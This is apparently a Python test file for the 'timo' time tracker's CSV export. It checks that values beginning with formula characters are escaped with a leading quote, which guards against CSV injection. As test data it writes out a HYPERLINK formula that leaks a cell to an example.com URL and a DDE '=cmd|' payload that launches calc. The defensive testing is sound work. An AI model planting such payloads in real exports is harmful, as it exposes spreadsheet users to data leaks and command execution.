"""Text a spreadsheet would run as a formula is written to the CSV as text: a `'` in front
of a name or description that begins with `=`, `+`, `-`, `@`, a tab or a carriage return
(OWASP's advice against CSV injection). Real `timo export` and `timo report --csv`
processes, read back with the csv module; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

from tests.support.cli import run_timo
from timo_desktop.core.catalog import Project
from timo_desktop.core.entry import Target
from timo_desktop.paths import resolve
from timo_desktop.reports.formats import spreadsheet_text
from timo_desktop.services.tracker import Tracker

from .workspace import ACME, SITE, ZONE, add, seed_catalog

MONDAY = date(2026, 11, 2)  # 2026-W45, in the past
WEEK = ("--week", "2026-W45")
FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"Invoice")'
DANGEROUS = (FORMULA, "+49 30 1234", "-2 hours off", "@SUM(A1:A9)")
PROJECT = Project("prj_cmd", "=cmd|' /C calc'!A0", ACME.id, billable_default=True)


def _seed(home: Path) -> None:
    tracker = Tracker.open(resolve().ensure().database, zone=ZONE)
    seed_catalog(tracker)
    with tracker.store.write() as tx:
        tx.put_projects([PROJECT])
    for hour, description in enumerate(DANGEROUS, start=8):
        add(tracker, MONDAY, f"{hour:02d}:00", 30, Target(PROJECT.id), description=description)
    add(tracker, MONDAY, "15:00", 90, Target(SITE.id), description="Homepage = layout")
    tracker.close()


def _rows(home: Path, *args: str) -> list[dict[str, str]]:
    done = run_timo(home, *args)
    assert done.returncode == 0, done.stderr
    return list(csv.DictReader(io.StringIO(done.stdout, newline="")))


def test_text_that_would_start_a_formula_is_written_as_text(timo_home: Path) -> None:
    _seed(timo_home)
    rows = _rows(timo_home, "export", *WEEK)
    descriptions = [row["description"] for row in rows]
    assert descriptions == [f"'{text}" for text in DANGEROUS] + ["Homepage = layout"]
    assert {row["project"] for row in rows} == {"'=cmd|' /C calc'!A0", SITE.name}
    assert {row["client"] for row in rows} == {ACME.name}  # nothing to guard, left alone
    # Numbers are not text: a spreadsheet must still add them up.
    assert [row["hours"] for row in rows] == ["0.5"] * len(DANGEROUS) + ["1.5"]

    grouped = _rows(timo_home, "export", *WEEK, "--by", "project")
    assert {row["project"] for row in grouped} == {"'=cmd|' /C calc'!A0", SITE.name}


def test_the_report_csv_guards_its_names_too(timo_home: Path) -> None:
    _seed(timo_home)
    rows = {row["key"]: row for row in _rows(timo_home, "report", *WEEK, "--csv")}
    assert rows[PROJECT.id]["label"] == "'=cmd|' /C calc'!A0"
    assert rows[SITE.id]["label"] == SITE.name
    # The site is 1.5 h into its 10 h estimate: a negative variance stays a number.
    assert rows[SITE.id]["variance_hours"] == "-8.5"


def test_a_tab_or_carriage_return_in_front_is_guarded_as_well() -> None:
    # Descriptions are kept trimmed; a name from Vmoox may still start so.
    assert spreadsheet_text("\t=1+1") == "'\t=1+1"
    assert spreadsheet_text("\rcall") == "'\rcall"
    assert spreadsheet_text("Review = done") == "Review = done"
    assert spreadsheet_text("") == ""
